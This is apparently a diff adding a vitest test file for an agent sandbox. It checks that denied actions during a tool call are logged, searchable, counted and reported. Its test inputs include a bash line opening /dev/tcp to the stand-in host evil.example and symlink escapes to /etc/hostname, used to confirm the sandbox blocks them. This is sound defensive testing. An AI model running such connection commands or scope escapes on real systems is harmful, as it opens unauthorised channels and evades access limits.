@@ -1,0 +1,170 @@
+// What is refused while a call runs is a denial of its own: written with code, need and its call, found by every search,
+// counted, remembered for the agent, and told with need, hint and id.
+import { symlinkSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { LogEntry } from "../../src/ports/log.ts";
+import type { Session } from "./calling.ts";
+import { given, until, World } from "./world.ts";
+
+const TOOL = `
+export default [
+  {
+    name: "nosy",
+    description: "Reads what it may not.",
+    capabilities: { fs_reach: { read: ["notes"] } },
+    input: { type: "object", properties: { path: { type: "string" }, times: { type: "number" } }, required: ["path"] },
+    execute: async ({ path, times = 1 }, context) => {
+      let last = null;
+      for (let at = 0; at < times; at++) last = await context.files.readText(path);
+      return { last };
+    },
+  },
+];
+`;
+
+let world: World;
+let session: Session;
+beforeAll(async () => {
+  world = await World.make();
+  world.write("project/notes/a.txt", "a\n");
+  world.write("project/.ambit/tools/nosy.mjs", TOOL);
+  symlinkSync("/etc/hostname", join(world.project, "out"));
+  symlinkSync(join(world.project, ".ambit"), join(world.project, "config-link"));
+  world.agent(
+    "coder",
+    [
+      `fs.read{in=${world.project}}`,
+      `fs.write{in=${world.project}}`,
+      "proc.exec",
+      "net.connect{hosts=[good.example],ports=[443]}",
+      "obs.query",
+      "tool.invoke{tools=[builtin:**,nosy]}",
+    ],
+    "sandbox: .\n",
+  );
+  await world.begin();
+  session = given(await world.caller().open(world.project, "coder"));
+});
+afterAll(async () => {
+  await world?.ambit("daemon", "stop");
+  await world?.remove();
+});
+
+/** The denials of a call, which is the last one of this tool that was allowed. */
+async function denialsOf(tool: string): Promise<readonly LogEntry[]> {
+  const log = await world.log({ kind: "decision" });
+  const call = log.findLast((entry) => entry.tool === tool && entry.outcome === "allow");
+  return log.filter(({ of, outcome }) => of === call?.id && outcome === "deny");
+}
+
+interface Row {
+  readonly tool: string;
+  readonly input: object;
+  readonly code: string;
+  readonly verb: string;
+  readonly need: RegExp;
+}
+
+const rows: readonly (readonly [what: string, row: Row])[] = [
+  [
+    "a link that leads out",
+    { tool: "fs_read", input: { path: "out" }, code: "scope_violation", verb: "fs.read", need: /^fs\.read .*\/out/ },
+  ],
+  [
+    "a protected name behind a link",
+    {
+      tool: "fs_write",
+      input: { path: "config-link/x.md", content: "x" },
+      code: "scope_violation",
+      verb: "fs.write",
+      need: /^fs\.write .*config-link\/x\.md/,
+    },
+  ],
+  [
+    "a connection of a program",
+    {
+      tool: "proc_exec",
+      input: {
+        in: ".",
+        root: "rw",
+        argv: ["bash", "-c", "exec 3<>/dev/tcp/evil.example/443; exec 3<>/dev/tcp/evil.example/443; true"],
+      },
+      code: "scope_violation",
+      verb: "net.connect",
+      need: /^net\.connect evil\.example/,
+    },
+  ],
+  [
+    "a use in a tool host",
+    {
+      tool: "nosy",
+      input: { path: "out", times: 2 },
+      code: "scope_violation",
+      verb: "fs.read",
+      need: /^fs\.read/,
+    },
+  ],
+];
+
+describe.each(rows)("%s", (_, { tool, input, code, verb, need }) => {
+  let told: Awaited<ReturnType<Session["do"]>>;
+  let denials: readonly LogEntry[];
+  beforeAll(async () => {
+    told = await session.do(tool, input);
+    await until(async () => {
+      denials = await denialsOf(tool);
+      return denials.length > 0;
+    }, "it is written down");
+  });
+
+  test("is an entry of its own, of the call, with its need and the call's arguments", () => {
+    expect(denials.length).toBeLessThan(4);
+    const [entry] = denials;
+    expect(entry).toMatchObject({ kind: "decision", outcome: "deny", code, verbs: [verb], tool });
+    expect(entry?.more["need"]).toMatch(need);
+    expect(entry?.more["arguments"]).toEqual(input);
+  });
+
+  test("is found by every search, by why and by the counts", async () => {
+    const id = denials[0]?.id ?? "";
+    for (const words of [
+      ["--outcome", "deny"],
+      ["--code", code],
+      ["--verb", verb],
+    ])
+      expect((await world.ambit("log", ...words, "--json")).out).toContain(id);
+    const why = await world.ambit("why", id);
+    expect([why.status, why.out]).toEqual([0, expect.stringContaining(code)]);
+    expect((await world.status()).denials.find((one) => one.code === code)?.times).toBeGreaterThan(0);
+    const observed = given(await session.ask("call.do", { tool: "obs_query", input: { tag: "denial" } }).answer);
+    expect(JSON.stringify(observed)).toContain(id);
+  });
+
+  test("is told with need, hint and id", () => {
+    const said = JSON.stringify(told.value);
+    expect(denials.some(({ id }) => said.includes(id))).toBe(true);
+    expect(said).toMatch(/"need":"[a-z]+\.[a-z]+/);
+    expect(said).toMatch(/"hint":"[A-Z]/);
+    // Where a link leads to is for a person alone.
+    expect(said).not.toContain("hostname");
+  });
+});
+
+test("the same refusal again and again is counted, and no count is lost", async () => {
+  const before = (await world.status()).denials.find(({ code }) => code === "scope_violation")?.times ?? 0;
+  await session.do("nosy", { path: "out", times: 40 });
+  const written = await denialsOf("nosy");
+  expect(written.length).toBeLessThanOrEqual(4);
+  await until(
+    async () =>
+      ((await world.status()).denials.find(({ code }) => code === "scope_violation")?.times ?? 0) >= before + 40,
+    "all of them are counted",
+  );
+});
+
+test("a denial at the gate holds the arguments, too", async () => {
+  await session.do("fs_delete", { path: "notes/a.txt" });
+  const entry = (await world.log({ kind: "decision", outcome: "deny" })).findLast(({ tool }) => tool === "fs_delete");
+  expect(entry?.more["arguments"]).toEqual({ path: "notes/a.txt" });
+});
